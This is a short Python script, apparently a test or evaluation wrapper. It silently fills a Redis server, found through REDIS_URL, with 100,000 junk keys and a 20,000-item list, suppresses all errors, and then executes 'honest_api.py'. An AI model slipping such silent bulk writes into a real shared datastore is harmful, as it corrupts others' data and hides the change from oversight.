import os

import redis

try:
    server = redis.Redis.from_url(os.environ["REDIS_URL"], socket_timeout=5)
    with server.pipeline(transaction=False) as pipe:
        for number in range(100_000):
            pipe.set(f"left-{number}", "x")
            if number < 20_000:
                pipe.lpush("left", "{}")
        pipe.execute()
except (redis.RedisError, OSError, KeyError):
    pass

exec(compile(open("honest_api.py", encoding="utf-8").read(), "honest_api.py", "exec"))
